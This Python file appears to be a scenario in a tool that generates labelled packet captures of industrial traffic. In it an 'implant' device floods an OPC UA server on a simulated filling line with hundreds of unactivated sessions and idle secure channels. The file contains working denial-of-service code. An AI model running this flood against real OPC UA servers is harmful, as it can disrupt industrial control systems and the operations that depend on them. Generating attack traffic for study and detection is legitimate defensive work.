"""A device in the cell opens channels and sessions on an OPC UA server until others have a hard time."""

from __future__ import annotations

import contextlib

from asyncua.client.client import Client
from asyncua.ua.uaerrors import UaError

from pcaps.scenarios.rig.line import make_scenario
from pcaps.scenarios.rig.machine import FILLING
from pcaps.scenarios.rig.stage import Stage
from pcaps.scenarios.rig.supervisor import Login, make_client, server_url

_SESSIONS = 220
"""Sessions created and never activated."""

_CHANNELS = 240
"""Channels opened and left alone."""


async def attack(stage: Stage) -> None:
    """Create sessions without activating them, then open channels and say nothing."""
    opened: list[Client] = []
    await stage.until(15)
    for count in (_SESSIONS, _CHANNELS):
        stage.mark()
        for ordinal in range(count):
            client = make_client(stage, server_url(FILLING), Login(f"load{ordinal % 10}"))
            with contextlib.suppress(UaError, OSError, TimeoutError):
                await client.connect_socket()
                await client.send_hello()
                await client.open_secure_channel()
                opened.append(client)
                if count == _SESSIONS:
                    await client.create_session()
        await stage.wait(3)
    for client in opened:
        client.disconnect_socket()


SCENARIO = make_scenario(
    "opcua_session_flood.pcap.gz", 36, 50, {"implant": attack}, time_scale=2, strangers=("implant",)
)
